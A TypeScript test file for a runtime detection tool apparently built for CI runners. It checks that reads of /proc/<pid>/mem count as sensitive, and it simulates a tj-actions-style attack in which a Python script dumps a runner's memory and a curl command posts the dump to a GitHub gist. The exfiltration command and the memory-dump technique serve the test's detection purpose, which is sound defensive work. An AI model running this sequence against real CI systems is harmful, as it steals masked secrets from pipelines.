/**
 * A process's memory read through procfs (found by red-team review): secrets a CI runner masks in its logs
 * live in its worker's heap, and a step that dumps `/proc/<pid>/mem` (as the compromised tj-actions/changed-
 * files action did, with a Python dumper) read nothing that counted (`/proc/` is noise), so its upload was
 * `low`. `/proc/<pid>/mem` is sensitive now, like `/proc/<pid>/environ`, and both sensors' configs send it.
 */
import { describe, expect, it } from 'vitest';
import { createPathClassifier, PATH_NOISE, PATH_SENSITIVE } from '../../../src/correlate/paths.js';
import { brief, MiB, run, Scenario } from './builder.js';

const classify = createPathClassifier();

describe("a process's memory", () => {
  it('is sensitive; its map and other procfs files are not', () => {
    expect(classify('/proc/812/mem')).toBe(PATH_SENSITIVE);
    expect(classify('/proc/812/task/813/mem')).toBe(PATH_SENSITIVE);
    expect(classify('/proc/812/maps')).toBe(PATH_NOISE);
    expect(classify('/proc/meminfo')).toBe(PATH_NOISE);
  });

  for (const source of ['tetragon', 'falco'] as const)
    it(`dumped, then posted to a gist, is high (${source})`, () => {
      const s = new Scenario({ source });
      const c = s.container({ namespace: 'ci', pod: 'runner-x7', name: 'runner' });
      const sh = s.init(c);
      const py = s.exec(c, '/usr/bin/python3', '/tmp/memdump.py 812', { parent: sh });
      s.read(py, '/proc/812/maps', 60_000)
        .read(py, '/proc/812/mem', 24 * MiB)
        .wait(100)
        .exit(py)
        .wait(1_000);
      const curl = s.exec(c, '/usr/bin/curl', '-sd @/tmp/m.json https://api.github.com/gists', { parent: sh });
      s.read(curl, '/tmp/m.json', 4_000).wait(300).exit(curl);
      const alerts = run(s.events).alerts;
      expect(brief(alerts)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'api.github.com' },
      ]);
      expect(alerts[0]!.reads.sensitive).toEqual(['/proc/812/mem']);
    });
});
